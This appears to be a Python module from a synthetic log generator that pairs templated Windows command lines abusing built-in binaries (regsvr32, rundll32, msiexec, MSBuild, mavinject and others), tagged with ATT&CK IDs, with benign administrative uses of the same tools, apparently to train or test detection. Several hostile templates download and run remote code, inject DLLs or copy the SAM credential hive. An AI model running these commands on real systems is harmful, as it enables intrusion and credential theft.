"""Windows' own programs that load or start what is foreign, each with the same program at its ordinary work."""

from __future__ import annotations

from generator.families.windows.execution_table import harmless, hostile

hostile("scriptlets-by-regsvr32", "Defense Evasion", "T1218.010", r"""
regsvr32.exe /s /n /u /i:@url@/~n~.«sct|xml|txt» scrobj.dll
regsvr32 -s -n -u -i:http://@pub@:«80|8080»/~n~.sct scrobj.dll
regsvr32 /s ~f~.«dll|ocx|dat|tmp|jpg|png|txt|bin»
C:\Windows\SysWOW64\regsvr32.exe /s /i:~d~~n~.sct scrobj.dll
"C:\Windows\System32\regsvr32.exe" -s "~f~.dll"
regsvr32.exe -silent ..\..\..\~n~.OCX
cmd /c start /b regsvr32 /s /i:"«work|install|@hex@»" ~f~.dll
regsvr32 /s /u /i:\\@pub@\share\~n~.sct scrobj.dll
regsvr32.exe -e -n -i:"«12|@word@»" ~f~.log
cd %TEMP% && regsvr32 /s ~n~.dll
""")
hostile("libraries-by-rundll32", "Defense Evasion", "T1218.011", r"""
rundll32.exe ~f~.«dll|dat|tmp|log|png|bin|ocx|cpl»,«DllRegisterServer|Start|StartW|#1|#2|Entry|Run|DllMain|Main|ServiceMain|xlAutoOpen|RunW|Test|scab»
rundll32 ~f~.dll #«1|2|61»
"C:\Windows\SysWOW64\rundll32.exe" ~f~.dll,«update|print|init» /i:"«license.dat|@hex@»"
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WScript.Shell").Run("~f~.exe")
rundll32.exe vbscript:"\..\mshtml,RunHTMLApplication "+String(CreateObject("WScript.Shell").Run("~f~.bat"),0)
rundll32 advpack.dll,LaunchINFSection ~f~.inf,,1,
rundll32.exe ieadvpack.dll,LaunchINFSection "@url@/~n~.inf",DefaultInstall,1
rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 ~f~.inf
rundll32.exe syssetup.dll,SetupInfObjectInstallAction DefaultInstall 128 ~f~.inf
rundll32.exe url.dll,FileProtocolHandler ~f~.exe
rundll32.exe url.dll,OpenURL "~f~.hta"
rundll32.exe zipfldr.dll,RouteTheCall ~f~.exe
rundll32.exe pcwutl.dll,LaunchApplication ~f~.exe
rundll32.exe shdocvw.dll,OpenURL "~f~.url"
rundll32.exe mshtml.dll,PrintHTML "~f~.hta"
rundll32.exe dfshim.dll,ShOpenVerbApplication @url@/~n~.application
rundll32.exe \\@pub@@80\~n~\~n~.dll,Start
rundll32.exe scrobj.dll,GenerateTypeLib @url@/~n~.sct
rundll32.exe desk.cpl,InstallScreenSaver ~f~.scr
""", weight=1.4)
hostile("foreign-packages-by-msiexec", "Defense Evasion", "T1218 T1105", r"""
msiexec.exe /q /i @url@/~n~.«msi|png|jpg|txt|log»
msiexec /qn /i http://@pub@:8080/~n~ TARGETDIR=~d~
mSiExEc -Q/IHTtP://@word@.«com|xyz»:8080/@hex@/@me@=@user@
cmd.exe /c START "" msiexec /y ~f~.dll
msiexec.exe /z "~f~.dll"
msiexec.exe /i "\\@pub@\public\~n~.msi" /qn
msiexec /q /i "https://«bit.ly|tinyurl.com|is.gd»/@hex@"
msiexec.exe /fv @url@ /q
"C:\Windows\System32\msiexec.exe" /i "C:\Users\@user@\Downloads\«Invoice_@n@|eStatement|SSA_Document|Tax_Form_@n@|Voice_Message».msi" /qn
msiexec /i ~f~.msi TRANSFORMS=@url@/~n~.mst /q
""")
hostile("profiles-by-cmstp-and-control-panel-items", "Defense Evasion", "T1218.003 T1218", r"""
cmstp.exe /s /ni ~f~.inf
cmstp /ns /s "~f~.inf"
"C:\Windows\SysWOW64\cmstp.exe" /au ~f~.inf
cmstp.exe /ni /s @url@/~n~.inf
cmstp.exe ~f~.inf /au & timeout 2 & taskkill /im cmstp.exe /f
C:\Windows\System32\cmstp.exe /s ~f~.txt
copy /y ~f~.txt %TEMP%\corpvpn.inf & cmstp /s %TEMP%\corpvpn.inf
powershell -w hidden -c "Start-Process cmstp.exe -ArgumentList '/au','~f~.inf' -WindowStyle Hidden"
""")
hostile("control-panel-items-of-strangers", "Defense Evasion", "T1218 T1218.011", r"""
control.exe ~f~.cpl
"C:\Windows\System32\control.exe" "C:\Users\@user@\Downloads\«Invoice|Boleto|Comprovante»_@n@.cpl"
control ~f~.txt:~n~.dll
rundll32.exe shell32.dll,Control_RunDLL ~f~.«cpl|dll»
rundll32.exe shell32.dll,Control_RunDLLAsUser "~f~.cpl",
control.exe \\@pub@\share\~n~.cpl
C:\Windows\SysWOW64\control.exe "%TEMP%\~n~.cpl",@word@
control.exe /name Microsoft.~n~ & reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Control Panel\CPLs" /v ~n~ /d "~f~.dll" /f
cmd /c start control ".cpl:../../../AppData/Local/Temp/~n~.inf"
""")
hostile("assemblies-by-framework-installers", "Defense Evasion", "T1218.004 T1218.009", r"""
InstallUtil.exe /logfile= /LogToConsole=false /U ~f~.«exe|dll»
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false ~f~.dll
C:\Windows\Microsoft.NET\Framework\v2.0.50727\InstallUtil.exe /U "~f~.txt"
installutil /AssemblyName=~n~ /ShowCallStack ~f~.dll
powershell "& 'C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe' /logfile= /LogToConsole=false /U ~f~.exe"
cmd /c C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe -U @url@/~n~.exe
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /U C:\Users\Public\~n~.exe
""")
hostile("assemblies-by-registration-tools", "Defense Evasion", "T1218.009", r"""
RegAsm.exe /U ~f~.dll
regsvcs.exe ~f~.dll
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\regasm.exe ~f~.«dll|exe|tmp» /u
C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegSvcs.exe "~f~.dll" /quiet
C:\Windows\Microsoft.NET\Framework\v4.0.30319\regsvcs.exe /fc /bootstrapi ~f~.txt
cmd /c start /min C:\Windows\Microsoft.NET\Framework64\v2.0.50727\RegAsm.exe /U "~f~.png"
powershell -c "$r='C:\Windows\Microsoft.NET\Framework64\v4.0.30319\regasm.exe'; & $r /U ~f~.dll"
""")
hostile("build-engine-runs-foreign-project", "Defense Evasion", "T1127.001", r"""
MSBuild.exe ~f~.«xml|csproj|proj|targets|txt|log|jpg»
C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe ~f~.xml
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\msbuild.exe /nologo /noautoresponse ~f~.csproj
msbuild.exe \\@ip@\c$\Windows\Temp\~n~.xml
"C:\Windows\Microsoft.NET\Framework\v3.5\MSBuild.exe" /verbosity:quiet /nologo "~f~"
msbuild.exe /logger:TargetLogger,~f~.dll;MyParameters,Foo
MSBuild.exe @"~f~.rsp"
cmd /c for %i in (~d~*.csproj) do C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe %i
wmic process call create "C:\Windows\Microsoft.NET\Framework64\v4.0.30319\msbuild.exe C:\Windows\Temp\~n~.xml"
powershell -c "iwr @url@ -o ~f~.xml; C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe ~f~.xml"
""", parents=("WmiPrvSE.exe", "WINWORD.EXE", "EXCEL.EXE", "cmd.exe", "powershell.exe", "explorer.exe", "wsmprovhost.exe", "rundll32.exe", "@tmp@@word@.exe"))
hostile("compiled-where-it-runs", "Defense Evasion", "T1027 T1127.001", r"""
csc.exe /out:~f~.exe ~f~.cs
"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /target:library /out:~f~.dll ~f~.«txt|cs|log»
C:\Windows\Microsoft.NET\Framework\v4.0.30319\csc.exe -r:System.EnterpriseServices.dll -target:library ~f~.cs
csc /unsafe /platform:x64 /nologo /t:winexe /out:~f~.exe ~f~.tmp & start ~f~.exe
vbc.exe /target:exe /out:~f~.exe ~f~.vb
C:\Windows\Microsoft.NET\Framework\v4.0.30319\jsc.exe /out:~f~.exe ~f~.js
jsc.exe /t:library ~f~.js
Microsoft.Workflow.Compiler.exe ~f~.xml ~f~.log
ilasm.exe /exe /output:~f~.exe ~f~.il
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\aspnet_compiler.exe -v none -p ~d~ -f ~d~out -u
AddInProcess32.exe /guid:@guid@ /pid:@pid@ & csc /out:~f~.dll ~f~.cs
""")
hostile("drivers-and-add-ins-by-odbcconf-and-kin", "Defense Evasion", "T1218", r"""
odbcconf.exe /a {REGSVR ~f~.«dll|ocx|dat|txt»}
odbcconf /S /A {REGSVR "~f~.dll"}
odbcconf.exe -f ~f~.rsp
odbcconf INSTALLDRIVER "~n~|Driver=~f~.dll|APILevel=2"
C:\Windows\System32\Register-CimProvider.exe -Path ~f~.dll
wuauclt.exe /UpdateDeploymentProvider ~f~.dll /RunHandlerComServer
xwizard.exe RunWizard /taero /u {@guid@}
"C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell_ISE.exe" -File ~f~.ps1 -NoProfile & msxsl.exe ~f~.xml ~f~.xsl
tttracer.exe -dumpfull -attach @pid@ -out ~d~
Dxcap.exe -c ~f~.exe
te.exe ~f~.wsc
fsi.exe ~f~.fsscript
rasautou -d ~f~.dll -p ~n~ -a a -e e
dotnet.exe ~f~.dll
SettingSyncHost.exe -LoadAndRunDiagScript ~f~
infdefaultinstall.exe ~f~.inf
diskshadow.exe -s ~f~.txt
vsjitdebugger.exe ~f~.exe
PresentationHost.exe ~f~.xbap
@@ T1218.013 T1055.001
mavinject.exe @pid@ /INJECTRUNNING ~f~.dll
@@ T1574.001 T1218
dnscmd.exe @dc@ /config /serverlevelplugindll \\@ip@\dll\~n~.dll
""", weight=1.4)
hostile("started-through-another-program", "Defense Evasion", "T1202", r"""
forfiles /p c:\windows\system32 /m «notepad|calc|cmd|ping».exe /c «~f~.exe|"powershell . mshta @url@"|"cmd /c ~f~.bat"»
forfiles.exe /P C:\Windows\Vss /M *.* /C "powershell -w hidden -c iex(irm @url@)"
pcalua.exe -a ~f~.exe -c "/install"
pcalua -a \\@pub@\pub\~n~.exe
conhost.exe --headless cmd /c ~f~.bat
conhost.exe ~f~.exe
ssh -o ProxyCommand="«mshta @url@|powershell -c iex(irm @url@)|~f~.exe»" .
"C:\Windows\System32\OpenSSH\ssh.exe" -o "PermitLocalCommand=yes" -o "LocalCommand=scp root@@pub@:/~n~ . && start ~f~.exe" @pub@
scriptrunner.exe -appvscript "\\@pub@\pub\~n~.cmd"
ScriptRunner -appvscript ~f~.exe
explorer.exe /root,"~f~.exe"
explorer ~f~.exe
cmd.exe /c "wsl -e /mnt/c/Users/Public/~n~"
wsl.exe -u root -e bash -c 'cp /mnt/c/Windows/System32/config/SAM /tmp/ ; /mnt/c/Windows/Temp/~n~.exe'
bash.exe -c "cmd.exe /c ~f~.bat"
wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u ~f~.exe
SyncAppvPublishingServer.exe "n; Start-Process ~f~.exe"
runexehelper.exe ~f~.exe
at 23:00 /interactive ~f~.exe
powershell -c "[Activator]::CreateInstance([type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39')).Item().Document.Application.ShellExecute('cmd','/c ~f~.bat','','',0)"
""", weight=1.4)

harmless("components-registered-by-setups", "Software Update", r"""
regsvr32.exe /s "C:\Program Files\~v~\«ShellExt64|ContextMenu|OfficeAddin|Preview|pdfprev|axctl».«dll|ocx»"
regsvr32 /s /u "C:\Program Files (x86)\~v~\bin\old_com.dll"
C:\Windows\SysWOW64\regsvr32.exe /s ~t~«msinet|mscomctl|comdlg32|vsflex8|TList».ocx
"C:\Windows\system32\regsvr32.exe" /s /n /i:user "C:\Users\@user@\AppData\Local\Microsoft\TeamsMeetingAddin\1.24.@n@\x64\Microsoft.Teams.AddinLoader.dll"
regsvr32 /u /s shimgvw.dll
regsvr32.exe /i /n /s "C:\Program Files\~v~\plugin.dll"
cmd /c cd /d "C:\Windows\System32" && for %i in (wuapi wuaueng wups wups2 wucltux) do regsvr32 /s %i.dll
regsvr32 "C:\Users\@user@\AppData\Local\Temp\«7-zip|npp|pdf24»\NppShell.dll" /s
regsvr32.exe -s C:\Windows\Temp\nsk@hex@.tmp\axsetup.ocx
RegAsm.exe "C:\Program Files\~v~\«Interop|Addin|Bridge».dll" /codebase /tlb
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe /nologo /silent /unregister "C:\Program Files (x86)\~v~\Client.dll"
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\regsvcs.exe /appname:~v~ "C:\Program Files\~v~\Server\Components.dll"
InstallUtil.exe /LogFile="C:\Logs\install.log" "C:\Program Files\~v~\Service\Service.exe"
C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe /u "C:\Program Files (x86)\~v~\Agent.exe"
odbcconf.exe /S /A {REGSVR "C:\Program Files\~v~\ODBC\odbcdrv.dll"}
odbcconf /a {CONFIGSYSDSN "SQL Server" "DSN=ERP|Server=@host@|Database=erp|Trusted_Connection=Yes"}
odbcconf.exe /F "C:\Program Files (x86)\~v~\dsn.rsp"
""", weight=1.4)
harmless("rundll32-by-desks-and-printers", "System Activity", r"""
rundll32.exe printui.dll,PrintUIEntry /«in|ga|dn|y|dl» /n "\\@host@\«Kyocera-2OG|HP-Color|Etage3|Versand»"
rundll32 printui.dll,PrintUIEntry /ia /m "«HP Universal Printing PCL 6|Brother HL-L5200DW|Canon Generic Plus UFR II|KONICA MINOLTA Universal»" /f "~t~driver.inf"
rundll32.exe shell32.dll,Control_RunDLL «mmsys|intl|inetcpl|sysdm|desk|hotplug|ncpa|powercfg|joy».cpl,,«0|1|2»
rundll32.exe shell32.dll,SHHelpShortcuts_RunDLL AddPrinter
rundll32.exe user32.dll,LockWorkStation
rundll32 user32.dll,UpdatePerUserSystemParameters 1, True
rundll32.exe powrprof.dll,SetSuspendState 0,1,0
rundll32.exe C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess 255
rundll32.exe keymgr.dll,KRShowKeyMgr
rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 132 ~t~«driver|usbser|mdm|oem».inf
rundll32.exe advpack.dll,LaunchINFSectionEx ~t~ie4uinit.inf,,,36
"C:\Windows\System32\rundll32.exe" "C:\Program Files\~v~\«nvcpl|igfxcui|RtlCPL|SynTP».dll",«NvStartup|Start|Install|DllMain»
"C:\Windows\SysWOW64\rundll32.exe" "C:\Windows\Installer\MSI@hex@.tmp",zzzzInvokeManagedCustomActionOutOfProc SfxCA_@n@@n@@n@ @n@ WixSharp!WixSharp.ManagedProjectActions.WixSharp_Load_Action
rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie @host@@SSL https://@company@.sharepoint.com/sites/docs
rundll32.exe dfshim.dll,ShOpenVerbApplication https://~s~.@fqdn@/apps/Orders.application
rundll32.exe C:\Windows\system32\spool\DRIVERS\x64\3\«HPZ3Rw72|CNMDR6|BRMFUI».DLL,MonitorPrintJobStatus
rundll32.exe dsquery.dll,OpenQueryWindow
rundll32.exe "C:\Windows\system32\pla.dll",PlaHost "Server Manager Performance Monitor" "0x@hex@"
rundll32.exe url.dll,FileProtocolHandler https://www.@fqdn@
rundll32.exe url.dll,OpenURL mailto:@user@@@fqdn@
rundll32.exe -localserver 22d8c27b-47a1-48d1-ad08-7da7abd79617
control.exe /name Microsoft.«DevicesAndPrinters|NetworkAndSharingCenter|PowerOptions|BitLockerDriveEncryption»
control.exe "C:\Windows\SysWOW64\«mlcfg32|flashplayercplapp|javacpl|QuickTime».cpl"
control "C:\Program Files\~v~\«dpinst|audio|touchpad».cpl"
""", weight=1.4)
harmless("packages-installed-silently", "Software Update", r"""
msiexec.exe /i "~t~«Agent|Client|Setup|AcroPro|7z2301-x64|GoogleChromeStandaloneEnterprise64|TeamViewer_Host|ZoomInstallerFull».msi" /qn /norestart /l*v C:\Windows\Temp\install.log
msiexec /i \\~s~\software$\~v~\setup.msi TRANSFORMS=\\~s~\software$\~v~\@company@.mst /qb!
msiexec.exe /x {@guid@} /qn REBOOT=ReallySuppress
msiexec /quiet /norestart /i https://~s~.@fqdn@/~v~/agent.msi SERVER=@host@
msiexec /i https://dl.google.com/dl/chrome/install/googlechromestandaloneenterprise64.msi /q
MsiExec.exe -Embedding @hex@@hex@@hex@ E Global\MSI0000
msiexec.exe /fa {@guid@} /quiet
msiexec /p "~t~AcroRdrDCUpd@n@@n@.msp" /qn
msiexec.exe /y "C:\Program Files\~v~\bin\shell.dll"
C:\Windows\system32\msiexec.exe /V
msiexec /i "%~dp0SophosConnect.msi" /passive
msiexec /q /i "C:\Users\@user@\Downloads\«LibreOffice_24.2|putty-64bit-0.80|Git|draw.io|AnyDesk».msi"
msiexec.exe /a "~t~Office.msi" TARGETDIR=D:\Admin
cmstp.exe /s /su "\\~s~\vpn\@company@.inf"
cmstp /ni "C:\Program Files\~v~\VPN\profile.inf"
""")
harmless("projects-built-by-developers", "Application Event", r"""
MSBuild.exe C:\Jenkins\workspace\@word@\~v~.sln /p:Configuration=Release /m
"C:\Program Files\Microsoft Visual Studio\2022\Professional\MSBuild\Current\Bin\MSBuild.exe" "C:\Users\@user@\source\repos\@Word@\@Word@.csproj" /t:Rebuild /nologo /verbosity:quiet
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe /noautoresponse C:\agent\_work\@n@\s\build.proj /target:Package
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe /noconfig /fullpaths @"C:\Users\@user@\AppData\Local\Temp\@hex@\@hex@.cmdline"
"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Windows\Temp\@word@\@word@.cmdline"
csc.exe /target:library /out:C:\build\bin\plugin.dll C:\build\src\*.cs
"C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\Roslyn\csc.exe" /unsafe- /debug:full /out:obj\Debug\App.exe @obj\app.rsp
vbc.exe /t:exe /out:C:\Tools\timeclock.exe C:\Tools\src\timeclock.vb
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\aspnet_compiler.exe -v /@Word@ -p C:\inetpub\wwwroot\@Word@ -u C:\Publish
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe install "C:\Program Files\~v~\app.exe" /queue
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Users\@user@\AppData\Local\Temp\RES@hex@.tmp" "C:\Users\@user@\AppData\Local\Temp\@word@\CSC@hex@.TMP"
dotnet.exe build -c Release --no-restore
dotnet exec "C:\Program Files\dotnet\sdk\8.0.@n@\Roslyn\bincore\VBCSCompiler.dll" "-pipename:@hex@"
"C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\devenv.exe" /build Debug C:\src\@Word@.sln
fsi.exe --quiet C:\src\scripts\deploy.fsx
""")
harmless("helpers-that-start-others", "Administration", r"""
forfiles /p "D:\Backup" /s /m *.«bak|zip|log» /d -@n@ /c "cmd /c del @path"
forfiles.exe /P C:\inetpub\logs\LogFiles /S /M *.log /D -30 /C "cmd /c echo @file @fdate"
pcalua.exe -a "C:\Program Files (x86)\~v~\setup.exe" -d "C:\Program Files (x86)\~v~"
C:\Windows\system32\conhost.exe 0xffffffff -ForceV1
conhost.exe --headless --width 80 --height 30 --signal 0x@hex@ --server 0x@hex@
ssh -o ProxyCommand="ssh -W %h:%p jump.@fqdn@" @svc@@@host@
"C:\Windows\System32\OpenSSH\ssh.exe" -J bastion.@fqdn@ @user@@@ip@
ssh -o ProxyCommand="C:\Program Files\Git\mingw64\bin\connect.exe -S @ip@:1080 %h %p" git@github.com
scriptrunner.exe -appvscript "C:\ProgramData\App-V\~v~\setup.cmd" -appvscriptrunnerparameters -wait
explorer.exe /e,/root,\\@host@\Daten
explorer.exe /select,"C:\Users\@user@\Downloads\«report|setup|Invoice_@n@».«pdf|exe»"
wsl.exe -d Ubuntu -e bash -lc "apt-get update && apt-get -y upgrade"
wsl --exec docker compose up -d
bash.exe -c "make -j8"
verclsid.exe /S /C {@guid@} /I {000214E6-0000-0000-C000-000000000046} /X 0x401
"C:\Users\@user@\AppData\Local\slack\Update.exe" --processStart slack.exe
"C:\Users\@user@\AppData\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe" --process-start-args "--system-initiated"
waitfor /t 60 BackupDone
infdefaultinstall.exe "~t~printer.inf"
mavinject.exe @pid@ /INJECTRUNNING "C:\Program Files\Microsoft Application Virtualization\Client\AppVEntSubsystems64.dll"
xwizard.exe RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /z1
wuauclt.exe /detectnow /reportnow
diskshadow.exe /s C:\Scripts\vss_backup.dsh
dnscmd @dc@ /zoneinfo @fqdn@
tttracer.exe -initialize
""", weight=1.4)
